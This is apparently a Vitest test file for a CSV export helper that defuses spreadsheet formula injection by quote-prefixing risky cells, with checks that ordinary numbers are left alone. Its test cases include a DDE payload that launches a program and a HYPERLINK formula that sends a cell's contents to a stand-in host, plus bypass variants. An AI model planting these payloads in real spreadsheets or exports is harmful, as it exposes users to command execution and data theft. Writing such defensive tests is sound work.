// SPDX-License-Identifier: Apache-2.0

import { parse } from 'csv-parse/sync'
import { describe, expect, it } from 'vitest'
import { csvText, harmless } from '../../eval/csv.ts'

describe('cells of CSV', () => {
  it.each([
    ...[
      '=1+1',
      '=HYPERLINK("http://a.test?x="&A1,"see")',
      '+1-800',
      "-2+3+cmd|' /C calc'!A0",
      '@SUM(A1)',
      '\t=1',
      '\r=1',
      '\n=1',
    ],
    ...[
      ' =1',
      '\u00a0=1',
      '\ufeff=1',
      '\uff1d1',
      '\uff0b1',
      '\uff0d1',
      '\uff20a',
      '-',
      '+',
      '--1',
      '-1-1',
      '-e5',
    ],
  ])('that a spreadsheet would run are made harmless: %j', (text) => {
    expect(harmless(text)).toBe(`'${text}`)
  })

  it.each(['-0.5', '+3', '1e-7', '-1.5E+3', '-.5', 'FP32', 'a=b', "it's", '', '(-1)', '\u2212 minus'])(
    'stay as they are: %j',
    (text) => {
      expect(harmless(text)).toBe(text)
    },
  )

  it('are read back by a CSV parser, numbers as numbers', () => {
    const rows = [{ system: '=1+1,"x"\n', wer: -0.5, rtf: '-0.25' }]
    const text = csvText(rows)
    expect(text).toBe('system,wer,rtf\n"\'=1+1,""x""\n",-0.5,-0.25\n')
    expect(parse(text, { columns: true })).toEqual([{ system: '\'=1+1,"x"\n', wer: '-0.5', rtf: '-0.25' }])
  })
})
